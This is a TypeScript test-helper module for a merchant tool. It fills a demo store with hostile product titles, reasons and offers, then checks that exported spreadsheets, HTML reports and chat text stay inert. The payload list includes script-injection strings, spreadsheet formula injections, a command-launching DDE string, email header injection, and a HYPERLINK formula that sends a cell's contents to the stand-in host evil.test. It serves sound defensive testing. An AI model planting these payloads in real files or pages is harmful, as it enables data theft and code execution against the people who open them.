/**
 * Hostile OUTPUT (issue 13 round 2): merchant text that ends up in files other people open. A demo
 * store whose product titles, categories, return reasons and competitor offers are attacks, and
 * the checks each output kind must pass: spreadsheets (no live formula), HTML (nothing executes in
 * a real browser), Markdown and chat dialects (no link, mention or markup from the data).
 */
import { execFile } from "node:child_process";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import ExcelJS from "exceljs";
import { findChromium, MISSING_CHROMIUM } from "../helpers/chromium.js";
import { DEMO_DIR } from "../helpers/demo-data.js";

/** Text a merchant (or whoever wrote the supplier's sheet) can put in a title, reason or offer. */
export const HOSTILE_TEXT: readonly string[] = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(2)>',
  "</style><svg onload=alert(3)>",
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  "@SUM(1+1)",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "|pipe|`tick`[click](javascript:alert(4))",
  "<!channel> <!everyone> @all @everyone <@U024BE7LH> <at id=all></at>",
  "\tTAB",
  "</title><script>alert(6)</script>",
  "<svg><text>x</text><script>alert(7)</script></svg>",
  "<javascript:alert(8)>",
  "Bcc: evil@evil.test\r\nX-Injected: 1",
];

/** The demo store, its titles, categories, reasons and offers replaced by HOSTILE_TEXT (deterministic). */
export function hostileSeed(dir: string): string {
  const seed = join(dir, "seed");
  cpSync(DEMO_DIR, seed, { recursive: true });
  const pick = (key: string) => HOSTILE_TEXT[[...key].reduce((h, c) => (h * 31 + c.charCodeAt(0)) >>> 0, 7) % HOSTILE_TEXT.length];
  const rewrite = (name: string, edit: (row: Record<string, string>, i: number) => void) => {
    const path = join(seed, `${name}.csv`);
    const rows = parse(readFileSync(path), { columns: true }) as Record<string, string>[];
    rows.forEach(edit);
    writeFileSync(path, stringify(rows, { header: true }));
  };
  const titled = (row: Record<string, string>) => {
    const id = row.product_id ?? "";
    row.title = `${pick(id)} ${id}`;
    if (row.category) row.category = `${pick(`${id}c`)} ${row.category}`;
  };
  rewrite("products", (r) => {
    titled(r);
    r.vendor = pick(`${r.product_id}v`) ?? "";
  });
  rewrite("order_lines", titled);
  rewrite("returns", (r) => {
    r.reason = `${pick(r.sku ?? "")} ${r.reason}`;
  });
  rewrite("competitors", (r, i) => {
    r.title = `${pick(`t${i}`)} ${r.title}`;
    r.competitor = `${pick(`c${i}`)}`;
    if (i % 3 === 0) r.url = "javascript:alert(5)";
  });
  return seed;
}

export function hostileConfig(seed: string): string {
  return `timezone: Asia/Shanghai
currency: CNY
defaultStore: shop
stores:
  shop: { platform: local, seed: ${JSON.stringify(seed)} }
prices:
  delayMs: 0
  sources:
    rival: { type: spreadsheet, file: ${JSON.stringify(join(seed, "competitors.csv"))}, currency: CNY }
`;
}

/** A spreadsheet evaluates these as formulas (OWASP CSV injection); plain numbers are numbers. */
const TRIGGER = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][+-]?\d+)?%?$/;
export const isLiveFormula = (cell: string): boolean => TRIGGER.test(cell) && !PLAIN_NUMBER.test(cell);

/** Cells of a CSV file a spreadsheet would run, as "row:col value". */
export function liveCsvCells(path: string): string[] {
  const rows = parse(readFileSync(path), { relax_column_count: true, bom: true }) as string[][];
  return rows.flatMap((r, i) => r.flatMap((c, j) => (isLiveFormula(c) ? [`${i + 1}:${j + 1} ${JSON.stringify(c)}`] : [])));
}

export interface WorkbookScan {
  live: string[];
  strings: string[];
  numbers: number;
}

/** Formula cells and trigger-led text of a workbook; its strings, and how many cells are numbers. */
export async function scanWorkbook(path: string): Promise<WorkbookScan> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const scan: WorkbookScan = { live: [], strings: [], numbers: 0 };
  wb.eachSheet((ws) =>
    ws.eachRow((row, r) =>
      row.eachCell((cell, c) => {
        const v = cell.value;
        const where = `${ws.name}!${r}:${c}`;
        if (typeof v === "number") scan.numbers++;
        else if (typeof v === "string") {
          scan.strings.push(v);
          if (isLiveFormula(v)) scan.live.push(`${where} ${JSON.stringify(v)}`);
        } else if (v && typeof v === "object" && ("formula" in v || "sharedFormula" in v)) scan.live.push(`${where} formula`);
      }),
    ),
  );
  return scan;
}

export interface InjectionProbe {
  /** alert/confirm/prompt/print calls the page made. */
  calls: string[];
  /** Elements or attributes the report never writes: scripts, images, frames, on* handlers, javascript: URLs. */
  injected: string[];
  title: string;
}

const PRE = `<script id="hp-pre">window.__calls=[];for(const f of ["alert","confirm","prompt","print"])window[f]=(...a)=>{window.__calls.push(f+":"+a.join(","))};</script>`;
const POST = `<script id="hp-post">window.addEventListener("load",()=>setTimeout(()=>{const bad=[];for(const el of document.querySelectorAll("*")){const tag=el.tagName.toUpperCase();if(tag==="SCRIPT"&&!el.id.startsWith("hp-"))bad.push("script");if(/^(IMG|IFRAME|OBJECT|EMBED|FORM|INPUT|BASE|LINK|FOREIGNOBJECT|A)$/.test(tag))bad.push(tag);for(const a of el.attributes){if(/^on/i.test(a.name))bad.push(tag+"@"+a.name);if(/^\\s*javascript:/i.test(a.value))bad.push(tag+"@"+a.name+"=javascript:")}}const p=document.createElement("pre");p.id="hp-result";p.textContent=JSON.stringify({calls:window.__calls,injected:bad,title:document.title});document.body.appendChild(p)},100))</script>`;

/**
 * Loads a report in headless Chromium with alert() and friends recorded and, once loaded (event
 * handlers of broken images have fired), lists every element or attribute that could run code.
 * The probe's own two scripts are told apart by their ids.
 */
export async function probeInjection(htmlPath: string): Promise<InjectionProbe> {
  const chromium = findChromium();
  if (chromium === null) throw new Error(MISSING_CHROMIUM);
  const work = mkdtempSync(join(tmpdir(), "merchops-inject-"));
  try {
    const html = readFileSync(htmlPath, "utf8");
    const at = html.lastIndexOf("</body>");
    const page = html.replace("<head>", `<head>${PRE}`);
    const copy = join(work, "page.html");
    writeFileSync(copy, at < 0 ? `${page}${POST}` : `${page.slice(0, page.lastIndexOf("</body>"))}${POST}</body></html>\n`);
    const args = [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-dev-shm-usage",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      `--user-data-dir=${join(work, "profile")}`,
      "--virtual-time-budget=3000",
      "--dump-dom",
      pathToFileURL(copy).href,
    ];
    const dom = await new Promise<string>((done, fail) => {
      execFile(chromium, args, { timeout: 60_000, killSignal: "SIGKILL", maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
        if (error) fail(new Error(`Chromium failed (${error.message}):\n${stderr.slice(-2000)}`));
        else done(stdout);
      });
    });
    const m = /<pre id="hp-result">([\s\S]*?)<\/pre>/.exec(dom);
    if (!m?.[1]) throw new Error(`the probe did not run in ${htmlPath}`);
    const text = m[1].replace(
      /&(lt|gt|quot|#39|amp);/g,
      (_, e: string) => ({ lt: "<", gt: ">", quot: '"', "#39": "'", amp: "&" })[e] ?? "",
    );
    return JSON.parse(text) as InjectionProbe;
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}
